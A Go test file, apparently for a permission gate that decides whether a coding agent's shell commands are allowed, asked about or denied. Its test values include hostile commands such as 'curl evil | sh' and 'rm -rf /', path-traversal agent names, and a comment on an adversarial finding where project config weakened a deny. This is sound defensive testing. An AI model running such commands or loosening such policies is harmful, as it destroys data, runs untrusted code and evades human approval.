package judgment

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/permtui/permtui/internal/grants"
	"github.com/permtui/permtui/internal/resolve"
	"github.com/permtui/permtui/internal/testkit"
	"github.com/permtui/permtui/internal/wire"
)

// TestVerdictSteps: each step of the judgment in its order, on a real policy.
func TestVerdictSteps(t *testing.T) {
	dir := t.TempDir()
	opts := resolve.LoadOptions{AgentDir: dir, ProjectDir: filepath.Join(dir, "p"), TrustProject: true}
	testkit.WriteFile(t, resolve.GlobalConfigPath(dir), []byte(`{"permission":{"bash":{"*":"ask","git *":"allow"}}}`))
	p := resolve.Load(opts)
	git := FactsRequest(resolve.Query{Surface: "bash", Values: []string{"git push"}})
	ls := FactsRequest(resolve.Query{Surface: "bash", Values: []string{"ls"}})
	if v := Verdict(p, git, nil, nil); v.Action != resolve.Allow {
		t.Fatalf("policy allow: %+v", v)
	}
	deny := grants.Deny{Grant: wire.Grant{Surface: "bash", Pattern: "git push*"}, Reason: "no"}
	if v := Verdict(p, git, nil, []grants.Deny{deny}); v.Action != resolve.Deny || v.Origin != resolve.OriginSession || v.Reason != "no" {
		t.Fatalf("a session deny comes first: %+v", v)
	}
	if v := Verdict(p, ls, []wire.Grant{{Surface: "bash", Pattern: "ls"}}, nil); v.Action != resolve.Allow || v.Origin != resolve.OriginSession {
		t.Fatalf("a grant allows: %+v", v)
	}
	if v := Verdict(p, &wire.Request{}, nil, nil); v.Action != resolve.Ask {
		t.Fatalf("no facts: %+v", v)
	}
	// A broken global config floors nothing in pi; the judgment still
	// holds the project's allow.
	testkit.WriteFile(t, resolve.ProjectConfigPaths(opts.ProjectDir)[0], []byte(`{"permission":{"bash":{"git *":"allow"}}}`))
	testkit.WriteFile(t, resolve.GlobalConfigPath(dir), []byte(`{`))
	broken := resolve.Load(opts)
	if v := broken.Evaluate(resolve.Query{Surface: "bash", Values: []string{"git push"}}, nil); v.Action != resolve.Allow {
		t.Fatalf("the policy alone: %+v", v)
	}
	if v := Verdict(broken, git, nil, nil); v.Action != resolve.Ask {
		t.Fatalf("a broken file holds the allow: %+v", v)
	}
}

// TestAPolicyPermtuiCannotHoldDeniesEveryAsk: pi reads a global config of
// any size; over the size permtui holds, its denies are missing here, so
// neither an allow nor an ask stands (decision 0177), and the reason names
// the file.
func TestAPolicyPermtuiCannotHoldDeniesEveryAsk(t *testing.T) {
	dir := t.TempDir()
	opts := resolve.LoadOptions{AgentDir: dir, ProjectDir: filepath.Join(dir, "p"), TrustProject: true}
	testkit.WriteFile(t, resolve.ProjectConfigPaths(opts.ProjectDir)[0], []byte(`{"permission":{"bash":{"git *":"allow"}}}`))
	global := resolve.GlobalConfigPath(dir)
	testkit.WriteFile(t, global, []byte(`{"permission":{"bash":{"rm *":"deny"}}}`))
	if err := os.Truncate(global, 64<<20); err != nil {
		t.Fatal(err)
	}
	p := resolve.Load(opts)
	for _, values := range []string{"git push", "rm -rf /", "make"} {
		req := FactsRequest(resolve.Query{Surface: "bash", Values: []string{values}})
		v := Verdict(p, req, []wire.Grant{{Surface: "bash", Pattern: "*"}}, nil)
		if v.Action != resolve.Deny || !strings.Contains(v.Reason, global) {
			t.Errorf("%s with an unheld global config: %s %q", values, v.Action, v.Reason)
		}
	}
	if v := Verdict(p, &wire.Request{}, nil, nil); v.Action != resolve.Deny {
		t.Errorf("no facts with an unheld global config: %s", v.Action)
	}
}

// TestAnAgentFilePermtuiCannotHoldDeniesThatAgentsAsks: an oversized agent
// file is that agent's policy only, and that of a name differing only by
// case, which pi reads it for on a case-folding file system (decision 0241).
func TestAnAgentFilePermtuiCannotHoldDeniesThatAgentsAsks(t *testing.T) {
	dir := t.TempDir()
	opts := resolve.LoadOptions{AgentDir: dir, ProjectDir: filepath.Join(dir, "p"), TrustProject: true}
	testkit.WriteFile(t, resolve.GlobalConfigPath(dir), []byte(`{"permission":{"bash":{"*":"allow"}}}`))
	big := filepath.Join(dir, "agents", "big.md")
	testkit.WriteFile(t, big, []byte("---\npermission:\n  bash:\n    rm *: deny\n---\n"))
	if err := os.Truncate(big, 64<<20); err != nil {
		t.Fatal(err)
	}
	p := resolve.Load(opts)
	for agent, want := range map[string]resolve.Action{"big": resolve.Deny, "BIG": resolve.Deny, "other": resolve.Allow, "": resolve.Allow} {
		req := FactsRequest(resolve.Query{Agent: agent, Surface: "bash", Values: []string{"ls"}})
		// Allows are held while a file is a problem, so "allow" reads ask here.
		got := Verdict(p, req, nil, nil).Action
		if want == resolve.Allow {
			want = resolve.Ask
		}
		if got != want {
			t.Errorf("agent %q: %s, want %s", agent, got, want)
		}
	}
}

// TestAnAgentNameThatIsAPathIsDenied: pi loads agents/<name>.md by joining
// the name, so "team/locked" is agents/team/locked.md ("*": deny here),
// which permtui does not read; it would judge by the base policy (allow).
// Such a name is denied, whatever the policy says; a plain name is not.
func TestAnAgentNameThatIsAPathIsDenied(t *testing.T) {
	dir := t.TempDir()
	opts := resolve.LoadOptions{AgentDir: dir, ProjectDir: filepath.Join(dir, "p"), TrustProject: true}
	testkit.WriteFile(t, resolve.GlobalConfigPath(dir), []byte(`{"permission":{"bash":{"*":"allow"}}}`))
	testkit.WriteFile(t, filepath.Join(dir, "agents", "team", "locked.md"), []byte("---\nname: locked\npermission:\n  \"*\": deny\n---\n"))
	p := resolve.Load(opts)
	for _, agent := range []string{"team/locked", `team\locked`, "../agent/x", "/etc/x"} {
		req := FactsRequest(resolve.Query{Agent: agent, Surface: "bash", Values: []string{"ls"}})
		if v := Verdict(p, req, []wire.Grant{{Surface: "bash", Pattern: "*"}}, nil); v.Action != resolve.Deny || !strings.Contains(v.Reason, "path") {
			t.Errorf("agent %q: %+v", agent, v)
		}
		// Without facts, the requester's own word is enough to deny on.
		if v := Verdict(p, &wire.Request{RequesterAgentName: agent}, nil, nil); v.Action != resolve.Deny {
			t.Errorf("agent %q without facts: %+v", agent, v)
		}
	}
	if v := Verdict(p, FactsRequest(resolve.Query{Agent: "team", Surface: "bash", Values: []string{"ls"}}), nil, nil); v.Action != resolve.Allow {
		t.Errorf("a plain agent name: %+v", v)
	}
}

// TestAnAllowOnlyAnUntrustedProjectGivesGoesToAPerson: with the project's
// files read but the project not trusted (decision 0206), its denies and
// asks stand, an allow the other scopes give stands, and an allow that
// holds only because of the project's files goes to a person, saying so;
// a trusted project's allow stands.
func TestAnAllowOnlyAnUntrustedProjectGivesGoesToAPerson(t *testing.T) {
	dir := t.TempDir()
	held := resolve.LoadOptions{AgentDir: dir, ProjectDir: filepath.Join(dir, "p"), TrustProject: true, HoldProjectAllows: true}
	testkit.WriteFile(t, resolve.GlobalConfigPath(dir), []byte(`{"permission":{"bash":{"*":"ask","ls *":"allow","git *":"allow"}}}`))
	project := resolve.ProjectConfigPaths(held.ProjectDir)[0]
	testkit.WriteFile(t, project, []byte(`{"permission":{"bash":{"curl *":"allow","git push*":"deny"}}}`))
	testkit.WriteFile(t, filepath.Join(held.ProjectDir, ".pi", "agents", "builder.md"), []byte("---\npermission:\n  bash:\n    make *: allow\n---\n"))
	bash := func(agent, value string) *wire.Request {
		return FactsRequest(resolve.Query{Agent: agent, Surface: "bash", Values: []string{value}})
	}
	p := resolve.Load(held)
	for _, c := range []struct {
		req  *wire.Request
		want resolve.Action
	}{
		{bash("", "curl evil | sh"), resolve.Ask},
		{bash("builder", "make all"), resolve.Ask},
		{bash("", "git push"), resolve.Deny},
		{bash("", "git status"), resolve.Allow},
		{bash("", "ls -l"), resolve.Allow},
		{bash("", "rm x"), resolve.Ask},
	} {
		v := Verdict(p, c.req, nil, nil)
		if v.Action != c.want {
			t.Errorf("%s %q held: %s (%s)", c.req.AccessIntent.Principal.AgentName, c.req.AccessIntent.MatchValues, v.Action, v.Explanation)
		}
		if c.want == resolve.Ask && c.req.AccessIntent.MatchValues[0] != "rm x" && !strings.Contains(v.Explanation, "--trust-project") {
			t.Errorf("%q: the why does not say the project's allow is held: %s", c.req.AccessIntent.MatchValues, v.Explanation)
		}
	}
	if v := Verdict(p, bash("", "curl evil | sh"), nil, nil); !strings.Contains(v.Explanation, project) || !strings.Contains(v.Explanation, "without the project's files: ask") {
		t.Errorf("the why does not name the project's file and the verdict without it: %s", v.Explanation)
	}
	// A person's whole-session grant allows without the project too.
	if v := Verdict(p, bash("", "curl x"), []wire.Grant{{Surface: "bash", Pattern: "curl *"}}, nil); v.Action != resolve.Allow {
		t.Errorf("a grant's allow is held: %+v", v)
	}
	// pi's verdict stays the project's allow; what serve does is held.
	req := bash("", "curl x")
	if v := p.Resolve(req, nil); v.Action != resolve.Allow || Served(p, req, nil, v).Action != resolve.Ask {
		t.Errorf("pi's verdict %s, served %s", v.Action, Served(p, req, nil, v).Action)
	}

	trusted := held
	trusted.HoldProjectAllows = false
	// The project's yoloMode allows what asks; held, it allows nothing more.
	testkit.WriteFile(t, project, []byte(`{"yoloMode":true}`))
	if v := Verdict(resolve.Load(held), bash("", "rm x"), nil, nil); v.Action != resolve.Ask {
		t.Errorf("the project's yoloMode held: %s (%s)", v.Action, v.Explanation)
	}
	if v := Verdict(resolve.Load(trusted), bash("", "rm x"), nil, nil); v.Action != resolve.Allow {
		t.Errorf("the project's yoloMode trusted: %s (%s)", v.Action, v.Explanation)
	}
	testkit.WriteFile(t, project, []byte(`{"permission":{"bash":{"curl *":"allow","git push*":"deny"}}}`))
	for _, req := range []*wire.Request{bash("", "curl evil | sh"), bash("builder", "make all")} {
		if v := Verdict(resolve.Load(trusted), req, nil, nil); v.Action != resolve.Allow {
			t.Errorf("trusted project %q: %s", req.AccessIntent.MatchValues, v.Action)
		}
	}
}

// BenchmarkVerdictHeldProject is the cost of holding an untrusted project's
// allows (decision 0206): an allow is judged again without the project.
func BenchmarkVerdictHeldProject(b *testing.B) {
	dir := b.TempDir()
	opts := resolve.LoadOptions{AgentDir: dir, ProjectDir: filepath.Join(dir, "p"), TrustProject: true}
	testkit.WriteFile(b, resolve.GlobalConfigPath(dir), []byte(`{"permission":{"bash":{"*":"ask","ls *":"allow"}}}`))
	testkit.WriteFile(b, resolve.ProjectConfigPaths(opts.ProjectDir)[0], []byte(`{"permission":{"bash":{"make *":"allow"}}}`))
	for _, held := range []bool{false, true} {
		opts.HoldProjectAllows = held
		p := resolve.Load(opts)
		for _, value := range []string{"ls -l", "make all", "rm x"} {
			req := FactsRequest(resolve.Query{Surface: "bash", Values: []string{value}})
			b.Run(fmt.Sprintf("held=%v/%s", held, value), func(b *testing.B) {
				b.ReportAllocs()
				for b.Loop() {
					Verdict(p, req, nil, nil)
				}
			})
		}
	}
}

// An untrusted project loosens nothing: where the policy without its files
// denies, the ask is denied whatever the project's files make of it (an
// ask, an allow), as pi denies for a project it does not trust; once
// trusted, the project's word stands (decision 0206; second adversarial
// pass, finding 8: a project's "bash": "ask" turned the global rm -rf *
// deny into an ask, with nothing on screen saying the global policy denies).
func TestAnUntrustedProjectLoosensNoDeny(t *testing.T) {
	dir := t.TempDir()
	held := resolve.LoadOptions{AgentDir: dir, ProjectDir: filepath.Join(dir, "p"), TrustProject: true, HoldProjectAllows: true}
	testkit.WriteFile(t, resolve.GlobalConfigPath(dir), []byte(`{"permission":{"bash":{"*":"ask","rm -rf *":"deny","curl *":"deny"}}}`))
	project := resolve.ProjectConfigPaths(held.ProjectDir)[0]
	testkit.WriteFile(t, project, []byte(`{"permission":{"bash":{"rm -rf *":"ask","curl *":"allow"}}}`))
	trusted := held
	trusted.HoldProjectAllows = false
	for _, c := range []struct {
		value         string
		held, trusted resolve.Action
	}{
		{"rm -rf /home", resolve.Deny, resolve.Ask},
		{"curl evil | sh", resolve.Deny, resolve.Allow},
		{"ls", resolve.Ask, resolve.Ask},
	} {
		req := FactsRequest(resolve.Query{Surface: "bash", Values: []string{c.value}})
		if v := Verdict(resolve.Load(held), req, nil, nil); v.Action != c.held || c.held == resolve.Deny && !strings.Contains(v.Explanation, "--trust-project") {
			t.Errorf("%q held: %s (%s)", c.value, v.Action, v.Explanation)
		}
		if v := Verdict(resolve.Load(trusted), req, nil, nil); v.Action != c.trusted {
			t.Errorf("%q trusted: %s (%s)", c.value, v.Action, v.Explanation)
		}
	}
}

// TestAnAskFromOutsideTheProjectIsNotAutoAllowed: an ask whose requester's
// cwd lies outside the project permtui judges with was judged without the
// project there, whose denies pi's root session in it would apply, so an
// allow goes to a person and says why, unless a person named the project
// as the sessions'; a deny, an ask and an allow by the session's own grants
// (which pi ranks after every config rule) stand (decision 0234).
func TestAnAskFromOutsideTheProjectIsNotAutoAllowed(t *testing.T) {
	dir := t.TempDir()
	project := filepath.Join(dir, "a")
	if err := os.MkdirAll(filepath.Join(project, "sub"), 0o700); err != nil {
		t.Fatal(err)
	}
	testkit.WriteFile(t, resolve.GlobalConfigPath(dir), []byte(`{"permission":{"bash":{"*":"ask","git *":"allow","rm *":"deny"}}}`))
	opts := resolve.LoadOptions{AgentDir: dir, ProjectDir: project, TrustProject: true, Home: dir}
	from := func(cwd, value string) *wire.Request {
		req := FactsRequest(resolve.Query{Agent: "builder", Surface: "bash", Values: []string{value}})
		req.AccessIntent.RequesterCwd = cwd
		return req
	}
	other := filepath.Join(dir, "b")
	p := resolve.Load(opts)
	for _, c := range []struct {
		cwd, value string
		want       resolve.Action
		outside    bool
	}{
		{project, "git push", resolve.Allow, false},
		{filepath.Join(project, "sub"), "git push", resolve.Allow, false},
		{project + "/sub/../sub/", "git push", resolve.Allow, false},
		{other, "git push", resolve.Ask, true},
		{project + "-wt", "git push", resolve.Ask, true},
		{filepath.Join(project, ".."), "git push", resolve.Ask, true},
		{"a/sub", "git push", resolve.Ask, true},
		{other, "rm -rf x", resolve.Deny, true},
		{other, "ls", resolve.Ask, true},
		// Facts judged without a request (simulate, a rule's witnesses) name no cwd.
		{"", "git push", resolve.Allow, false},
	} {
		p.Locate(c.cwd)
		v := Verdict(p, from(c.cwd, c.value), nil, nil)
		if v.Action != c.want || (v.OutsideProject != "") != c.outside {
			t.Errorf("%q from %q: %s, outside %q (%s)", c.value, c.cwd, v.Action, v.OutsideProject, v.Explanation)
		}
		if c.outside && c.want == resolve.Ask && c.value == "git push" &&
			!strings.Contains(v.Explanation, "judged without the project at "+strconv.Quote(c.cwd)) {
			t.Errorf("%q from %q: the why does not say it was judged without that project: %s", c.value, c.cwd, v.Explanation)
		}
	}
	if v := Verdict(p, from(other, "git push"), []wire.Grant{{Surface: "bash", Pattern: "git push"}}, nil); v.Action != resolve.Allow {
		t.Errorf("a session grant's allow is held: %s (%s)", v.Action, v.Explanation)
	}
	// The project named through a link is the same project.
	link := filepath.Join(dir, "link")
	if err := os.Symlink(project, link); err != nil {
		t.Fatal(err)
	}
	opts.ProjectDir = link
	linked := resolve.Load(opts)
	linked.Locate(filepath.Join(project, "sub"))
	if v := Verdict(linked, from(filepath.Join(project, "sub"), "git push"), nil, nil); v.Action != resolve.Allow {
		t.Errorf("a cwd inside the project's real path: %s (%s)", v.Action, v.Explanation)
	}
	// A project a person named for the sessions served is theirs: a child
	// in another worktree is judged by it, as pi's root there judges it.
	opts.ProjectNamed = true
	if v := Verdict(resolve.Load(opts), from(other, "git push"), nil, nil); v.Action != resolve.Allow || v.OutsideProject != "" {
		t.Errorf("a named project: %s, outside %q (%s)", v.Action, v.OutsideProject, v.Explanation)
	}
	// Without a project (a policy loaded in code), nothing is outside it.
	opts.ProjectNamed = false
	opts.ProjectDir = ""
	if v := Verdict(resolve.Load(opts), from(other, "git push"), nil, nil); v.Action != resolve.Allow {
		t.Errorf("no project: %s (%s)", v.Action, v.Explanation)
	}
}

// TestAnAskFromAProjectBelowTheGuessedOneGoesToAPerson: a cwd under the
// guessed project whose nearest .pi is its own, or whose real path leaves
// the project, may have a root session judging by other files, so its allow
// goes to a person (decision 0257); a plain subdirectory is the project.
func TestAnAskFromAProjectBelowTheGuessedOneGoesToAPerson(t *testing.T) {
	dir := t.TempDir()
	project := filepath.Join(dir, "u2")
	for _, d := range []string{"plain/sub", "B/deep", "C/.pi", "D/.pi/deep"} {
		if err := os.MkdirAll(filepath.Join(project, d), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	testkit.WriteFile(t, filepath.Join(project, "B", ".pi", "extensions", "pi-permission-system", "config.json"),
		[]byte(`{"permission":{"bash":{"git push *":"deny"}}}`))
	testkit.WriteFile(t, filepath.Join(project, "E", ".pi"), nil) // a .pi that is a file counts too
	if err := os.Symlink(filepath.Join(dir, "elsewhere"), filepath.Join(project, "plain", "out")); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(dir, "elsewhere"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(project, "plain"), filepath.Join(project, "B", "back")); err != nil {
		t.Fatal(err)
	}
	testkit.WriteFile(t, resolve.GlobalConfigPath(dir), []byte(`{"permission":{"bash":{"*":"ask","git *":"allow"}}}`))
	p := resolve.Load(resolve.LoadOptions{AgentDir: dir, ProjectDir: project, TrustProject: true, Home: dir})
	from := func(cwd string) *wire.Request {
		req := FactsRequest(resolve.Query{Agent: "builder", Surface: "bash", Values: []string{"git push --force origin main"}})
		req.AccessIntent.RequesterCwd = cwd
		return req
	}
	for _, c := range []struct {
		cwd, own string
		want     resolve.Action
	}{
		{filepath.Join(project, "plain", "sub"), "", resolve.Allow},
		{filepath.Join(project, "B"), filepath.Join(project, "B"), resolve.Ask},
		{filepath.Join(project, "B", "deep"), filepath.Join(project, "B"), resolve.Ask},
		{filepath.Join(project, "C"), filepath.Join(project, "C"), resolve.Ask},
		{filepath.Join(project, "D", ".pi", "deep"), filepath.Join(project, "D"), resolve.Ask},
		{filepath.Join(project, "E"), filepath.Join(project, "E"), resolve.Ask},
		// A link out of the project is outside it; one back into a plain dir is not.
		{filepath.Join(project, "plain", "out"), "", resolve.Ask},
		{filepath.Join(project, "B", "back"), "", resolve.Allow},
		// A cwd that is not there cannot be told apart: outside.
		{filepath.Join(project, "gone"), "", resolve.Ask},
	} {
		p.Locate(c.cwd)
		v := Verdict(p, from(c.cwd), nil, nil)
		if v.Action != c.want || v.OwnProject != c.own || (v.Action == resolve.Ask) != (v.OutsideProject == project) {
			t.Errorf("from %q: %s, own %q, outside %q (%s)", c.cwd, v.Action, v.OwnProject, v.OutsideProject, v.Explanation)
		}
		if c.own != "" && !strings.Contains(v.Explanation, "has its own project ("+strconv.Quote(filepath.Join(c.own, ".pi"))+")") {
			t.Errorf("from %q: the why does not name its own project: %s", c.cwd, v.Explanation)
		}
	}
	// A cwd under the project that nothing located is held, not guessed inside.
	if v := Verdict(p, from(filepath.Join(project, "plain", "unlocated")), nil, nil); v.Action != resolve.Ask {
		t.Errorf("an unlocated cwd: %s (%s)", v.Action, v.Explanation)
	}
}

// BenchmarkVerdictOutsideProject is the cost of checking an ask's cwd
// against a guessed project (decision 0234): an allow from inside it (its
// place located before), one held from outside it, and facts that name no
// cwd. Locating is BenchmarkLocatedVerdict's.
func BenchmarkVerdictOutsideProject(b *testing.B) {
	dir := b.TempDir()
	opts := resolve.LoadOptions{AgentDir: dir, ProjectDir: filepath.Join(dir, "p"), TrustProject: true}
	testkit.WriteFile(b, resolve.GlobalConfigPath(dir), []byte(`{"permission":{"bash":{"*":"ask","ls *":"allow"}}}`))
	p := resolve.Load(opts)
	for _, c := range []struct{ name, cwd string }{
		{"inside", filepath.Join(opts.ProjectDir, "src")}, {"outside", filepath.Join(dir, "other")}, {"nocwd", ""},
	} {
		req := FactsRequest(resolve.Query{Surface: "bash", Values: []string{"ls -l"}})
		req.AccessIntent.RequesterCwd = c.cwd
		if err := os.MkdirAll(filepath.Join(opts.ProjectDir, "src"), 0o700); err != nil {
			b.Fatal(err)
		}
		p.Locate(c.cwd)
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Verdict(p, req, nil, nil)
			}
		})
	}
}

// BenchmarkLocatedVerdict is the cost per ask on serve's path of locating
// its cwd against a guessed project and judging it (decision 0257): the
// project dir itself (no IO), a plain subdirectory five deep (six Lstats),
// one under a nested .pi, and a link out of the project.
func BenchmarkLocatedVerdict(b *testing.B) {
	dir := b.TempDir()
	project := filepath.Join(dir, "p")
	deep, nested := filepath.Join(project, "a", "b", "c", "d", "e"), filepath.Join(project, "B", "src")
	for _, d := range []string{deep, nested, filepath.Join(project, "B", ".pi"), filepath.Join(dir, "elsewhere")} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			b.Fatal(err)
		}
	}
	if err := os.Symlink(filepath.Join(dir, "elsewhere"), filepath.Join(project, "out")); err != nil {
		b.Fatal(err)
	}
	testkit.WriteFile(b, resolve.GlobalConfigPath(dir), []byte(`{"permission":{"bash":{"*":"ask","ls *":"allow"}}}`))
	p := resolve.Load(resolve.LoadOptions{AgentDir: dir, ProjectDir: project, TrustProject: true})
	for _, c := range []struct{ name, cwd string }{
		{"project", project}, {"deep", deep}, {"nested", nested}, {"link", filepath.Join(project, "out")},
	} {
		req := FactsRequest(resolve.Query{Surface: "bash", Values: []string{"ls -l"}})
		req.AccessIntent.RequesterCwd = c.cwd
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				p.Locate(c.cwd)
				Verdict(p, req, nil, nil)
			}
		})
	}
}
